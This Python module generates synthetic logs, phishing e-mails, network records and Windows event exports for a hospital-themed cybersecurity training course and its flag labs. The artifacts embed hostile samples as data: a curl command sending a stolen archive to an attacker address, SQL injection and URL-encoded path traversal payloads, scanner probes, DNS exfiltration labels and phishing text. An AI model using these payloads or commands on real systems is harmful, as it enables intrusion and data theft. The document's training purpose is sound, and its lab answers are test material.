# ruff: noqa: E501 - e-mail headers, user-agents and log payloads are written as they appear in the artifacts
"""The cybersecurity track's artifacts: authentication and web server logs, a backup inventory,
a phishing e-mail with its full headers, a Zeek-like connection and DNS summary and a Windows
Security event export. Every line is generated from a fixed seed; the hosts, accounts and people
are invented, the public addresses come from the documentation ranges (RFC 5737: 192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24) and the domains end in .example. In cyber-102 each lesson's
artifact has a `lab-` twin, made by the same generator with another seed, other hosts and other
names: the lessons work through the first, the module's flags ask about the second."""

import random
from datetime import datetime, timedelta

MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()


def _syslog(t: datetime) -> str:
    return f"{MONTHS[t.month - 1]} {t.day:2d} {t:%H:%M:%S}"


def _clf(t: datetime, offset: str) -> str:
    return f"{t:%d}/{MONTHS[t.month - 1]}/{t:%Y:%H:%M:%S} {offset}"


def _lines(events) -> bytes:
    return "".join(line + "\n" for _, line in sorted(events, key=lambda e: e[0])).encode()


def _csv(header, rows) -> bytes:
    """Plain CSV: no value holds a comma or a quote, none starts with = + - @."""
    for row in rows:
        for v in row:
            assert "," not in str(v) and '"' not in str(v) and not (str(v) and str(v)[0] in "=+-@"), v
    return "".join(",".join(str(v) for v in row) + "\n" for row in [header, *rows]).encode()


# ---------------------------------------------------------------- SSH authentication log


class _Sshd:
    def __init__(self, rng: random.Random, host: str):
        self.rng, self.host, self.pid, self.events = rng, host, 4100, []

    def add(self, t: datetime, prog: str, msg: str, pid: int | None = None):
        if pid is None:
            self.pid += self.rng.randint(1, 7)
            pid = self.pid
        self.events.append((t, prog, pid, msg))
        return pid

    def render(self) -> bytes:
        """The lines in time order, the process ids renumbered to grow as they first appear."""
        renumber, last, out = {}, 2210, []
        for t, prog, pid, msg in sorted(self.events, key=lambda e: (e[0], e[2])):
            if pid not in renumber:
                last += self.rng.randint(1, 9)
                renumber[pid] = last
            out.append((t, f"{_syslog(t)} {self.host} {prog}[{renumber[pid]}]: {msg}"))
        return _lines(out)

    def port(self) -> int:
        return self.rng.randint(32768, 60999)

    def fail(self, t, user, ip, invalid):
        port = self.port()
        if invalid:
            pid = self.add(t, "sshd", f"Invalid user {user} from {ip} port {port}")
            self.add(
                t + timedelta(seconds=2),
                "sshd",
                f"Failed password for invalid user {user} from {ip} port {port} ssh2",
                pid,
            )
            self.add(
                t + timedelta(seconds=3),
                "sshd",
                f"Connection closed by invalid user {user} {ip} port {port} [preauth]",
                pid,
            )
        else:
            pid = self.add(t, "sshd", f"Failed password for {user} from {ip} port {port} ssh2")
            self.add(
                t + timedelta(seconds=1),
                "sshd",
                f"Connection closed by authenticating user {user} {ip} port {port} [preauth]",
                pid,
            )

    def login(self, t, user, ip, method, minutes, uid):
        pid = self.add(t, "sshd", f"Accepted {method} for {user} from {ip} port {self.port()} ssh2")
        self.add(t, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)", pid)
        self.add(t + timedelta(minutes=minutes), "sshd", f"pam_unix(sshd:session): session closed for user {user}", pid)
        return pid

    def cron(self, t):
        pid = self.add(t, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        self.add(t + timedelta(seconds=1), "CRON", "pam_unix(cron:session): session closed for user root", pid)


PACS_NIGHT = {
    "seed": 10205, "host": "pacs-gw",
    "staff": [("radiology", "10.20.4.17", 1001), ("m.tazi", "10.20.4.31", 1004), ("dsi.ops", "10.20.1.8", 1002)],
    "scanner": "203.0.113.54", "attacker": "198.51.100.23", "slow": "192.0.2.141",
    "targets": [("root", 40), ("radiology", 25), ("svc-backup", 21)], "victim": ("svc-backup", 1003),
    "loot": "/srv/pacs/export",
}  # fmt: skip
# The learner's own night (the flag's artifact): another gateway, other addresses, another victim.
LIS_NIGHT = {
    "seed": 10206, "host": "lis-gw",
    "staff": [("labo.nuit", "10.20.6.12", 1001), ("h.saidi", "10.20.6.40", 1004), ("dsi.ops", "10.20.1.8", 1002)],
    "scanner": "198.51.100.77", "attacker": "203.0.113.201", "slow": "192.0.2.18",
    "targets": [("root", 33), ("biomed", 27), ("labo.nuit", 30)], "victim": ("biomed", 1006),
    "loot": "/srv/lis/resultats",
}  # fmt: skip


def _auth_102(night: dict = PACS_NIGHT) -> bytes:
    """A gateway's night: one dictionary scan that never gets in, one targeted brute force that
    guesses an account's password, a slow guesser, and the staff's ordinary logins."""
    rng = random.Random(night["seed"])
    log = _Sshd(rng, night["host"])
    start = datetime(2026, 5, 11, 22, 0, 0)
    for minute in range(0, 10 * 60, 15):
        log.cron(start + timedelta(minutes=minute, seconds=1))
    staff = night["staff"]
    for hour, (user, ip, uid) in zip([22, 23, 5, 6, 6, 7], staff * 2, strict=True):
        t = start.replace(hour=hour) + timedelta(days=hour < 12, minutes=rng.randint(0, 50), seconds=rng.randint(0, 59))
        log.login(t, user, ip, "publickey" if user == "dsi.ops" else "password", rng.randint(5, 40), uid)
    # The dictionary scan: invalid user names only, 23:40 to 00:31.
    names = "admin test oracle ubuntu pi user guest postgres ftpuser support deploy git".split()
    t = start.replace(hour=23, minute=40, second=3)
    for i in range(148):
        log.fail(t, names[i % len(names)], night["scanner"], True)
        t += timedelta(seconds=rng.randint(18, 24))
    # The targeted brute force: real accounts, then the victim's password is guessed.
    t = datetime(2026, 5, 12, 2, 48, 10)
    targets = [user for user, n in night["targets"] for _ in range(n)]
    rng.shuffle(targets)
    for user in targets:
        log.fail(t, user, night["attacker"], False)
        t += timedelta(seconds=rng.randint(7, 11))
    t = t + timedelta(seconds=rng.randint(7, 11)) if night is not PACS_NIGHT else datetime(2026, 5, 12, 3, 1, 25)
    (victim, uid), ip = night["victim"], night["attacker"]
    log.login(t, victim, ip, "password", 23, uid)
    head = f"{victim} : TTY=pts/0 ; PWD=/home/{victim} ; USER=root ; COMMAND="
    sudo = [(2, "/usr/bin/id"), (5, f"/usr/bin/tar czf /tmp/.cache.tgz {night['loot']}"),
            (9, f"/usr/bin/curl -T /tmp/.cache.tgz http://{ip}:8080/up")]  # fmt: skip
    for minutes, command in sudo:
        log.add(t + timedelta(minutes=minutes), "sudo", head + command)
    # The slow guesser: a few tries for root over the night, from 192.0.2.141.
    for hour in [22, 0, 1, 3, 4, 5]:
        at = start.replace(hour=hour) + timedelta(
            days=hour < 12, minutes=rng.randint(0, 59), seconds=rng.randint(0, 59)
        )
        log.fail(at, "root", night["slow"], False)
    return log.render()


def _auth_101() -> bytes:
    """The admissions server (srv-gap), in local time (UTC+1): one address gets into gap-admin."""
    rng = random.Random(10103)
    log = _Sshd(rng, "srv-gap")
    start = datetime(2026, 5, 18, 0, 0, 0)
    for minute in range(0, 8 * 60, 30):
        log.cron(start + timedelta(minutes=minute, seconds=2))
    log.login(start.replace(hour=0, minute=12, second=40), "k.berrada", "10.8.2.14", "publickey", 18, 1005)
    log.login(start.replace(hour=6, minute=55, second=2), "k.berrada", "10.8.2.14", "publickey", 30, 1005)
    t = start.replace(hour=1, minute=5, second=11)
    for i in range(31):
        log.fail(t, ["admin", "test", "oracle"][i % 3], "198.51.100.190", True)
        t += timedelta(seconds=rng.randint(40, 60))
    t = start.replace(hour=2, minute=3, second=48)
    for user in ["root"] * 9 + ["gap-admin"] * 14:
        log.fail(t, user, "203.0.113.45", False)
        t += timedelta(seconds=rng.randint(20, 30))
    log.login(start.replace(hour=2, minute=17, second=6), "gap-admin", "203.0.113.45", "password", 14, 1010)
    return log.render()


# ---------------------------------------------------------------- web server logs

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML like Gecko) Chrome/122.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML like Gecko) Chrome/122.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
]


def _access_line(ip, t, offset, method, path, status, size, ref, ua):
    return f'{ip} - - [{_clf(t, offset)}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'


PORTAL_DAY = {
    "seed": 10207,
    "date": (2026, 5, 12),
    "nikto": "203.0.113.9",
    "sqlmap": "198.51.100.201",
    "sqli": "203.0.113.77",
    "traversal": "192.0.2.66",
    "blocked": "198.51.100.14",
    "shift": timedelta(0),
}
# The flag's artifact: the next day, other addresses.
PORTAL_NEXT_DAY = {
    "seed": 10208,
    "date": (2026, 5, 13),
    "nikto": "198.51.100.9",
    "sqlmap": "192.0.2.201",
    "sqli": "198.51.100.177",
    "traversal": "203.0.113.158",
    "blocked": "192.0.2.14",
    "shift": timedelta(hours=2, minutes=17),
}


def _access_102(day: dict = PORTAL_DAY) -> bytes:
    """The patient portal (rdv.chu-atlas.example) on 12 May 2026, local time (+0100)."""
    rng = random.Random(day["seed"])
    events = []
    start = datetime(*day["date"], 7, 0, 0) + day["shift"]
    pages = [
        ("GET", "/", 200, 5120),
        ("GET", "/rdv/recherche?specialite=cardiologie", 200, 8433),
        ("GET", "/rdv/recherche?specialite=pediatrie", 200, 7961),
        ("POST", "/connexion", 302, 0),
        ("GET", "/patient/tableau-de-bord", 200, 10211),
        ("GET", "/patient/resultats?id=1042", 200, 6604),
        ("GET", "/static/css/portail.css", 200, 20433),
        ("GET", "/static/js/portail.js", 200, 48120),
        ("GET", "/documents/telecharger?fichier=convocation-2026-05.pdf", 200, 88311),
        ("GET", "/favicon.ico", 200, 1150),
        ("GET", "/rdv/creneaux?medecin=42", 200, 3302),
    ]
    visitors = (
        [f"192.0.2.{n}" for n in rng.sample(range(10, 250), 25)]
        + [f"198.51.100.{n}" for n in rng.sample(range(10, 190), 20)]
        + [f"203.0.113.{n}" for n in rng.sample(range(100, 250), 10)]
    )
    for _ in range(640):
        t = start + timedelta(seconds=rng.randint(0, 11 * 3600))
        method, path, status, size = rng.choice(pages)
        if path.startswith("/patient/resultats"):
            path = f"/patient/resultats?id={rng.randint(1000, 1999)}"
        if status == 200 and rng.random() < 0.03:
            status, size = 404, 312
        size = size + rng.randint(0, 400) if size else 0
        ref = "https://rdv.chu-atlas.example/" if rng.random() < 0.6 else "-"
        events.append(
            (t, _access_line(rng.choice(visitors), t, "+0100", method, path, status, size, ref, rng.choice(BROWSERS)))
        )
    # Nikto from 203.0.113.9, 09:12.
    nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06d})"
    probes = ["/admin/", "/phpmyadmin/", "/.env", "/.git/config", "/backup.zip", "/wp-login.php", "/server-status",
              "/cgi-bin/test.cgi", "/config.php.bak", "/etc/passwd", "/../../../../etc/passwd", "/web.config",
              "/login.jsp", "/manager/html", "/xmlrpc.php", "/.DS_Store"]  # fmt: skip
    t = datetime(*day["date"], 9, 12, 4) + day["shift"]
    for i in range(96):
        path = probes[i % len(probes)] + ("" if i < len(probes) else f"?{i:03d}")
        status = 403 if path.startswith("/server-status") else 404
        events.append((t, _access_line(day["nikto"], t, "+0100", "GET", path, status, 312, "-", nikto.format(i + 1))))
        t += timedelta(milliseconds=rng.randint(200, 900))
    # sqlmap from 198.51.100.201 on the search form, 10:03.
    sqlmap = "sqlmap/1.7.2#stable (https://sqlmap.org)"
    payloads = ["cardiologie%27", "cardiologie%27%20AND%201%3D1--%20", "cardiologie%27%20AND%201%3D2--%20",
                "cardiologie%27%20AND%20SLEEP%285%29--%20", "cardiologie%27%20UNION%20ALL%20SELECT%20NULL--%20",
                "cardiologie%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20", "cardiologie%22", "cardiologie%29"]  # fmt: skip
    t = datetime(*day["date"], 10, 3, 40) + day["shift"]
    for i in range(48):
        p = payloads[i % len(payloads)]
        events.append(
            (
                t,
                _access_line(
                    day["sqlmap"],
                    t,
                    "+0100",
                    "GET",
                    f"/rdv/recherche?specialite={p}",
                    500 if i % 3 == 0 else 200,
                    402 if i % 3 == 0 else 8433,
                    "-",
                    sqlmap,
                ),
            )
        )
        t += timedelta(seconds=rng.randint(1, 3))
    # Manual SQL injection from 203.0.113.77 with a browser, 11:20: the results page leaks.
    t = datetime(*day["date"], 11, 20, 15) + day["shift"]
    manual = [("/patient/resultats?id=1042%27", 500, 401), ("/patient/resultats?id=1042%20OR%201%3D1", 200, 148220),
              ("/patient/resultats?id=1042%20UNION%20SELECT%20login%2Cmot_de_passe%20FROM%20comptes", 200, 9120)]  # fmt: skip
    for path, status, size in manual:
        events.append((t, _access_line(day["sqli"], t, "+0100", "GET", path, status, size, "-", BROWSERS[3])))
        t += timedelta(seconds=rng.randint(30, 70))
    # Path traversal: 192.0.2.66 is blocked in clear, gets through URL-encoded, 14:41.
    t = datetime(*day["date"], 14, 41, 2) + day["shift"]
    trav = [("../../../../etc/passwd", 403, 199), ("..%2f..%2f..%2fetc%2fpasswd", 404, 312),
            ("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", 200, 1893),
            ("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", 500, 401),
            ("%2e%2e%2f%2e%2e%2fapp%2fconfig%2fdatabase.yml", 200, 644)]  # fmt: skip
    for f, status, size in trav:
        events.append(
            (
                t,
                _access_line(
                    day["traversal"],
                    t,
                    "+0100",
                    "GET",
                    f"/documents/telecharger?fichier={f}",
                    status,
                    size,
                    "-",
                    BROWSERS[0],
                ),
            )
        )
        t += timedelta(seconds=rng.randint(20, 50))
    # Another address tries a clear traversal and is blocked.
    t = datetime(*day["date"], 16, 5, 9) + day["shift"]
    events.append(
        (
            t,
            _access_line(
                day["blocked"],
                t,
                "+0100",
                "GET",
                "/documents/telecharger?fichier=../../etc/hosts",
                403,
                199,
                "-",
                BROWSERS[1],
            ),
        )
    )
    return _lines(events)


def _web_101() -> bytes:
    """The admissions intranet's web log, in UTC (+0000): gap-admin's session downloads an export."""
    rng = random.Random(10107)
    events = []
    staff = ["10.8.2.14", "10.8.2.22", "10.8.3.5", "10.8.3.9"]
    pages = ["/gap/accueil", "/gap/admissions/recherche?ipp=SYN{}", "/gap/admissions/fiche?ipp=SYN{}",
             "/static/gap.css", "/gap/lits/disponibles"]  # fmt: skip
    for _ in range(120):
        t = datetime(2026, 5, 17, 23, 0, 0) + timedelta(seconds=rng.randint(0, 8 * 3600))
        page = rng.choice(pages).format(rng.randint(100000, 999999))
        events.append(
            (t, _access_line(rng.choice(staff), t, "+0000", "GET", page, 200, rng.randint(900, 9000), "-", BROWSERS[0]))
        )
    t = datetime(2026, 5, 18, 1, 19, 40)
    attacker = [("/gap/exports/", 200, 2310), ("/gap/exports/export-admissions-2026-05.csv", 200, 1843902),
                ("/gap/exports/export-lits-2026-05.csv", 404, 312)]  # fmt: skip
    for path, status, size in attacker:
        events.append((t, _access_line("203.0.113.45", t, "+0000", "GET", path, status, size, "-", "curl/8.5.0")))
        t += timedelta(seconds=rng.randint(5, 15))
    t = datetime(2026, 5, 17, 23, 40, 0)
    events.append(
        (
            t,
            _access_line(
                "10.8.2.22",
                t,
                "+0000",
                "GET",
                "/gap/exports/export-admissions-2026-04.csv",
                200,
                1702210,
                "-",
                BROWSERS[0],
            ),
        )
    )
    return _lines(events)


def _backups_101() -> bytes:
    header = ["serveur", "application", "criticite", "copies", "supports", "copie_hors_site", "copie_hors_ligne",
              "dernier_test_restauration"]  # fmt: skip
    rows = [
        ["srv-dpi01", "dossier-patient", "vitale", 3, 2, "oui", "oui", "2026-02-20"],
        ["srv-pacs01", "imagerie-pacs", "vitale", 3, 2, "oui", "oui", "2026-01-15"],
        ["srv-labo01", "laboratoire", "vitale", 3, 1, "oui", "non", "2025-11-03"],
        ["srv-gap", "admissions-facturation", "vitale", 3, 2, "oui", "oui", "2026-03-01"],
        ["srv-rh", "ressources-humaines", "importante", 2, 2, "non", "non", "2025-09-12"],
        ["srv-messagerie", "messagerie", "importante", 3, 2, "oui", "non", "2026-02-02"],
        ["srv-intranet", "intranet", "normale", 2, 1, "non", "non", "jamais"],
        ["srv-pharma", "pharmacie", "vitale", 3, 2, "oui", "oui", "2026-02-27"],
    ]
    return _csv(header, rows)


# ---------------------------------------------------------------- phishing e-mail


def _phishing_102() -> bytes:
    boundary = "b1_7f3c9a21e4d84c0a"
    text = f"""Return-Path: <relance@amo-cnss-remboursement.example>
Delivered-To: s.amrani@chu-atlas.example
Received: from mx1.chu-atlas.example (mx1.chu-atlas.example [10.1.0.25])
	by mbx01.chu-atlas.example (Dovecot) with LMTP id kQ2bJm1V8GUz
	for <s.amrani@chu-atlas.example>; Tue, 12 May 2026 08:41:09 +0100
Authentication-Results: mx1.chu-atlas.example;
	spf=pass (mx1.chu-atlas.example: domain of relance@amo-cnss-remboursement.example designates 203.0.113.88 as permitted sender) smtp.mailfrom=relance@amo-cnss-remboursement.example;
	dkim=none (message not signed);
	dmarc=fail (p=REJECT sp=REJECT dis=QUARANTINE) header.from=amo-cnss.example
Received: from smtp.amo-cnss-remboursement.example (smtp.amo-cnss-remboursement.example [203.0.113.88])
	by mx1.chu-atlas.example (Postfix) with ESMTPS id 4F2A1C0031
	for <s.amrani@chu-atlas.example>; Tue, 12 May 2026 07:41:07 +0000 (UTC)
Received: from mail.amo-cnss.example (mail.amo-cnss.example [192.0.2.20])
	by smtp.amo-cnss-remboursement.example (Postfix) with ESMTPSA id 9B1E2A7F
	for <s.amrani@chu-atlas.example>; Tue, 12 May 2026 07:41:05 +0000 (UTC)
Received: from [192.168.1.23] (unknown [198.51.100.172])
	by mail.amo-cnss.example with ESMTP; Tue, 12 May 2026 07:40:58 +0000
From: "CNSS - Service AMO" <remboursements@amo-cnss.example>
Reply-To: "Dossiers AMO" <dossiers@amo-cnss-remboursement.example>
To: "Service des admissions" <s.amrani@chu-atlas.example>
Subject: =?UTF-8?B?W1VSR0VOVF0gUmVqZXQgZGUgNDcgZG9zc2llcnMgQU1PIC0gYWN0aW9uIHJlcXVpc2U=?=
Date: Tue, 12 May 2026 07:40:51 +0000
Message-ID: <20260512074051.3391@amo-cnss-remboursement.example>
MIME-Version: 1.0
X-Mailer: PHPMailer 6.8.1
Content-Type: multipart/alternative; boundary="{boundary}"

--{boundary}
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Madame, Monsieur,

47 dossiers de prise en charge AMO transmis par votre etablissement ont ete
rejetes lors du controle du 11/05/2026. Sans regularisation sous 24 heures,
les remboursements correspondants seront suspendus.

Connectez-vous au portail pour valider les dossiers :
https://portail.amo-cnss.example/dossiers

Service AMO - Cellule des etablissements de soins

--{boundary}
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 8bit

<html><body>
<p>Madame, Monsieur,</p>
<p><b>47 dossiers</b> de prise en charge AMO transmis par votre etablissement ont ete
rejetes lors du controle du 11/05/2026. Sans regularisation <b>sous 24 heures</b>,
les remboursements correspondants seront suspendus.</p>
<p>Connectez-vous au portail pour valider les dossiers :<br>
<a href="https://amo-cnss-remboursement.example/connexion?etab=chu-atlas&amp;ref=4471">https://portail.amo-cnss.example/dossiers</a></p>
<p>Service AMO - Cellule des etablissements de soins</p>
</body></html>

--{boundary}--
"""
    return text.encode()


def _phishing_lab() -> bytes:
    """The flag's message: a supplier's "new bank details", sent through a lookalike domain."""
    return b"""Return-Path: <compta@bioreactif-maroc.example>
Delivered-To: achats@chu-atlas.example
Received: from mx2.chu-atlas.example (mx2.chu-atlas.example [10.1.0.26])
	by mbx01.chu-atlas.example (Dovecot) with LMTP id Zp4QxW9a8GV1
	for <achats@chu-atlas.example>; Wed, 13 May 2026 10:02:44 +0100
Authentication-Results: mx2.chu-atlas.example;
	spf=pass (mx2.chu-atlas.example: domain of compta@bioreactif-maroc.example designates 198.51.100.219 as permitted sender) smtp.mailfrom=compta@bioreactif-maroc.example;
	dkim=pass header.d=bioreactif-maroc.example header.s=mail;
	dmarc=pass (p=NONE sp=NONE dis=NONE) header.from=bioreactif-maroc.example
Received: from relay.bioreactif-maroc.example (relay.bioreactif-maroc.example [198.51.100.219])
	by mx2.chu-atlas.example (Postfix) with ESMTPS id 7C11B20044
	for <achats@chu-atlas.example>; Wed, 13 May 2026 09:02:42 +0000 (UTC)
Received: from smtp.bioreactifs-maroc.example (smtp.bioreactifs-maroc.example [192.0.2.45])
	by relay.bioreactif-maroc.example (Postfix) with ESMTP id 51AF09
	for <achats@chu-atlas.example>; Wed, 13 May 2026 09:02:40 +0000 (UTC)
Received: from [10.0.0.14] (unknown [203.0.113.30])
	by smtp.bioreactifs-maroc.example with ESMTPSA; Wed, 13 May 2026 09:02:31 +0000
From: "BioReactifs Maroc - Comptabilite" <compta@bioreactif-maroc.example>
Reply-To: <recouvrement.bioreactifs@boite-mail.example>
To: "Service des achats" <achats@chu-atlas.example>
Subject: Changement de coordonnees bancaires - factures de mai
Date: Wed, 13 May 2026 09:02:25 +0000
Message-ID: <c0ffee42.7731@bioreactif-maroc.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour,

Suite a un changement de banque, nous vous prions de bien vouloir regler
les factures de reactifs de laboratoire du mois de mai sur notre nouveau
compte, dont le RIB est joint a ce message sur simple demande en reponse.

Merci de confirmer la prise en compte avant vendredi afin d'eviter une
suspension des livraisons.

Service comptabilite - BioReactifs Maroc
"""


# ---------------------------------------------------------------- network summary (Zeek-like)


NETWORK_NIGHT = {"seed": 10211, "t0": 1778544000.0,  # 2026-05-12 00:00:00 UTC
                 "beacon_host": "10.30.8.41", "c2": "203.0.113.140", "beacon_start": 1337.25,
                 "interval": 300, "exfil_host": "10.30.5.17", "exfil_domain": "x7.telemetrie-cdn.example",
                 "exfil_start": 3 * 3600 + 611.5}  # fmt: skip
# The flags' artifacts: another night's records, other hosts, another interval and domain.
NETWORK_LAB = {"seed": 10212, "t0": 1778630400.0,  # 2026-05-13 00:00:00 UTC
               "beacon_host": "10.30.3.27", "c2": "198.51.100.66", "beacon_start": 901.5,
               "interval": 180, "exfil_host": "10.30.6.33", "exfil_domain": "q.maj-antivirus-cloud.example",
               "exfil_start": 5 * 3600 + 122.25}  # fmt: skip


def _network_102(net: dict = NETWORK_NIGHT) -> tuple[bytes, bytes]:
    rng = random.Random(net["seed"])
    t0 = net["t0"]
    hosts = [
        f"10.30.{a}.{b}" for a, b in [(2, 11), (2, 15), (3, 20), (3, 27), (4, 8), (5, 17), (6, 33), (8, 41), (8, 52)]
    ]
    sites = [("192.0.2.80", "maj.editeur-dpi.example"), ("198.51.100.30", "www.sante.example"),
             ("198.51.100.31", "portail.amo-cnss.example"), ("192.0.2.150", "cdn.bibliotheque-medicale.example"),
             ("203.0.113.20", "messagerie.chu-atlas.example"), ("192.0.2.99", "ntp.example")]  # fmt: skip
    conn, dns, uid = [], [], 0

    def new_uid():
        nonlocal uid
        uid += 1
        return "C" + "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789") for _ in range(14))

    for _ in range(520):
        ts = t0 + rng.uniform(0, 8 * 3600)
        host = rng.choice(hosts)
        ip, name = rng.choice(sites)
        u = new_uid()
        dns.append((ts, [f"{ts:.6f}", new_uid().replace("C", "D", 1), host, "10.30.0.53", name, "A", "NOERROR", ip]))
        ntp = name == "ntp.example"
        conn.append((ts + 0.05, [f"{ts + 0.05:.6f}", u, host, rng.randint(49152, 65535), ip, 123 if ntp else 443,
                                 "udp" if ntp else "tcp", "ntp" if ntp else "ssl", f"{rng.uniform(0.01, 40):.3f}",
                                 rng.randint(48, 48) if ntp else rng.randint(400, 9000),
                                 48 if ntp else rng.randint(1500, 250000), "SF"]))  # fmt: skip
    # Beaconing: 10.30.8.41 calls 203.0.113.140:443 every 300 s (+-2 s) with near-identical sizes.
    ts = t0 + net["beacon_start"]
    while ts < t0 + 8 * 3600:
        conn.append((ts, [f"{ts:.6f}", new_uid(), net["beacon_host"], rng.randint(49152, 65535), net["c2"], 443,
                          "tcp", "ssl", f"{rng.uniform(0.2, 0.4):.3f}", rng.randint(310, 330), rng.randint(180, 220), "SF"]))  # fmt: skip
        ts += net["interval"] + rng.uniform(-2, 2)
    # DNS exfiltration: 10.30.5.17 sends hex-encoded chunks as labels under telemetrie-cdn.example.
    secret = "".join(rng.choice("0123456789abcdef") for _ in range(40 * 44))
    ts = t0 + net["exfil_start"]
    for seq in range(40):
        label = secret[seq * 44 : (seq + 1) * 44]
        dns.append((ts, [f"{ts:.6f}", new_uid().replace("C", "D", 1), net["exfil_host"], "10.30.0.53",
                         f"{label}.{seq:03d}.{net['exfil_domain']}", "TXT", "NOERROR", "ok"]))  # fmt: skip
        ts += rng.uniform(2, 6)
    conn_header = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service", "duration",
                   "orig_bytes", "resp_bytes", "conn_state"]  # fmt: skip
    dns_header = ["ts", "uid", "id.orig_h", "id.resp_h", "query", "qtype_name", "rcode_name", "answers"]
    return (
        _csv(conn_header, [row for _, row in sorted(conn, key=lambda e: e[0])]),
        _csv(dns_header, [row for _, row in sorted(dns, key=lambda e: e[0])]),
    )


# ---------------------------------------------------------------- Windows Security export


DPI_INTRUSION = {"seed": 10213, "attacker": "203.0.113.61", "victim": "adm.radiologie", "backdoor": "maint.pacs",
                 "decoy": "interne.cardio3", "workstation": "kali", "computer": "SRV-DPI01", "shift": timedelta(0)}  # fmt: skip
# The flag's artifact: the same server's export for another intrusion, with other names.
DPI_LAB = {"seed": 10214, "attacker": "198.51.100.143", "victim": "adm.urgences", "backdoor": "svc.imprimantes",
           "decoy": "externe.pedia2", "workstation": "DESKTOP-7QK2M1",
           "computer": "SRV-RIS01", "shift": timedelta(hours=1, minutes=38)}  # fmt: skip


def _windows_102(case: dict = DPI_INTRUSION) -> bytes:
    """SRV-DPI01 (the patient record server), 13-14 May 2026: an RDP brute force succeeds, the
    intruder creates an account, makes it an administrator and clears the log."""
    rng = random.Random(case["seed"])
    rows = []
    start = datetime(2026, 5, 13, 18, 0, 0)
    empty = ""

    def ev(t, eid, target, subject, ltype, ip, ws, status, group):
        domain = case["computer"] if eid in (4720, 4732) else "" if eid == 1102 else "CHUATLAS"
        rows.append(
            (
                t,
                [
                    f"{t:%Y-%m-%d %H:%M:%S}",
                    eid,
                    case["computer"],
                    target,
                    domain,
                    subject,
                    ltype,
                    ip,
                    ws,
                    status,
                    group,
                ],
            )
        )

    services = [("svc-dpi", "10.30.1.12", "SRV-APP01"), ("svc-sauvegarde", "10.30.1.20", "SRV-BKP01"),
                ("n.chraibi", "10.30.2.15", "PC-CARDIO-04"), ("y.ouazzani", "10.30.3.20", "PC-URG-02")]  # fmt: skip
    for _ in range(260):
        t = start + timedelta(seconds=rng.randint(0, 15 * 3600))
        user, ip, ws = rng.choice(services)
        ev(t, 4624, user, case["computer"] + "$", 3, ip, ws, "0x0", empty)
    for _ in range(6):
        t = start + timedelta(seconds=rng.randint(0, 15 * 3600))
        ev(t, 4625, "n.chraibi", empty, 3, "10.30.2.15", "PC-CARDIO-04", "0xC000006A", empty)
    # A legitimate account creation during the day, by the IT admin, into Users.
    t = datetime(2026, 5, 13, 18, 22, 10)
    ev(t, 4624, "adm.dsi", case["computer"] + "$", 10, "10.30.1.8", "PC-DSI-01", "0x0", empty)
    ev(t + timedelta(minutes=3), 4720, case["decoy"], "adm.dsi", empty, empty, empty, empty, empty)
    ev(t + timedelta(minutes=3, seconds=20), 4732, case["decoy"], "adm.dsi", empty, empty, empty, empty, "Users")
    # The RDP brute force from 203.0.113.61.
    t = datetime(2026, 5, 14, 1, 12, 0) + case["shift"]
    names = ["administrateur", "admin", "administrator", "reception", case["victim"], "scanner", "test"]
    for i in range(212):
        user = names[i % len(names)] if i < 190 else case["victim"]
        status = "0xC000006A" if user in ("administrateur", case["victim"]) else "0xC0000064"
        ev(t, 4625, user, empty, 3, case["attacker"], case["workstation"], status, empty)
        t += timedelta(seconds=rng.randint(2, 5))
    t = datetime(2026, 5, 14, 1, 31, 47) + case["shift"]
    ev(t, 4624, case["victim"], case["computer"] + "$", 10, case["attacker"], case["workstation"], "0x0", empty)
    ev(t + timedelta(minutes=4, seconds=12), 4720, case["backdoor"], case["victim"], empty, empty, empty, empty, empty)
    ev(
        t + timedelta(minutes=4, seconds=40),
        4732,
        case["backdoor"],
        case["victim"],
        empty,
        empty,
        empty,
        empty,
        "Administrators",
    )
    ev(t + timedelta(minutes=5, seconds=5), 4732, case["backdoor"], case["victim"], empty, empty, empty, empty,
       "Remote Desktop Users")  # fmt: skip
    ev(t + timedelta(minutes=11, seconds=30), 1102, empty, case["victim"], empty, empty, empty, empty, empty)
    header = ["TimeCreated", "EventID", "Computer", "TargetUserName", "TargetDomainName", "SubjectUserName",
              "LogonType", "IpAddress", "WorkstationName", "SubStatus", "GroupName"]  # fmt: skip
    return _csv(header, [row for _, row in sorted(rows, key=lambda e: e[0])])


def files() -> dict[str, bytes]:
    conn, dns = _network_102()
    lab_conn, lab_dns = _network_102(NETWORK_LAB)
    return {
        "cyber-101/files/journal-auth.log": _auth_101(),
        "cyber-101/files/journal-web.log": _web_101(),
        "cyber-101/files/sauvegardes.csv": _backups_101(),
        "cyber-102/files/auth.log": _auth_102(),
        "cyber-102/files/lab-auth.log": _auth_102(LIS_NIGHT),
        "cyber-102/files/access.log": _access_102(),
        "cyber-102/files/lab-access.log": _access_102(PORTAL_NEXT_DAY),
        "cyber-102/files/phishing-email.txt": _phishing_102(),
        "cyber-102/files/lab-phishing-email.txt": _phishing_lab(),
